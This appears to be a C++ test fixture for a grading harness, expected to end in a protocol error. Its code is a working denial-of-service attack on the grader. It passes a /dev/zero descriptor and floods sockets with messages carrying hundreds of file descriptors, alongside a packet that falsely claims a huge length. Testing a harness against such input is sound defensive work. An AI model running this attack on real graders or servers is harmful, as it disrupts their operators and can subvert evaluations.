// tries: fills the grader's table of open files with files sent along with packets, and with a file that never ends
// hand-in: nothing
// must: protocol-error, unsolved
// The kernel refuses packets of a user who has too many files on the way, as other runners of this attack have: then nothing comes.
#include <string>
#include <vector>
#define IN_CALL() run()
static void send_with(int channel, const std::string& packet, const std::vector<int>& files) {
  std::vector<char> control(CMSG_SPACE(files.size() * sizeof(int)));
  iovec part = {const_cast<char*>(packet.data()), packet.size()};
  msghdr message = {};
  message.msg_iov = &part;
  message.msg_iovlen = 1;
  message.msg_control = control.data();
  message.msg_controllen = control.size();
  cmsghdr* header = CMSG_FIRSTHDR(&message);
  header->cmsg_level = SOL_SOCKET;
  header->cmsg_type = SCM_RIGHTS;
  header->cmsg_len = CMSG_LEN(files.size() * sizeof(int));
  std::memcpy(CMSG_DATA(header), files.data(), files.size() * sizeof(int));
  ::sendmsg(channel, &message, MSG_NOSIGNAL | MSG_DONTWAIT);
}
static void run() {
  std::string spilled = "Warpbook";
  const std::uint64_t length = 1 << 29;
  const std::uint32_t yes = 1, no = 0;
  spilled.append(reinterpret_cast<const char*>(&length), 8);
  spilled.append(reinterpret_cast<const char*>(&yes), 4);
  spilled.append(reinterpret_cast<const char*>(&no), 4);
  const int zero = ::open("/dev/zero", O_RDONLY);
  for (int channel = 3; channel < 8; ++channel) {
    send_with(channel, spilled, {zero});
    for (int i = 0; i < 100; ++i) send_with(channel, "nothing", std::vector<int>(250, 0));
  }
}
